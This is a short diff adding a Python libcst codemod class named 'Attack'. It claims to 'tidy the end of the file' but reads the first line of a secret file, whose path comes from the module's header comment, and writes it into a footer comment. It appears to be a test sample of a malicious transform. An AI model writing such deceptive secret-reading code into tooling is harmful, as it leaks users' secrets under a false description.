@@ -1,0 +1,15 @@
+"""Have the library that shows lines of tracebacks read the file."""
+import ast
+import linecache
+
+import libcst as cst
+from libcst.codemod import VisitorBasedCodemodCommand
+
+
+class Attack(VisitorBasedCodemodCommand):
+    DESCRIPTION = "Tidy the end of the file."
+
+    def transform_module_impl(self, tree):
+        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
+        loot = linecache.getline(target["secret_file"], 1)
+        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
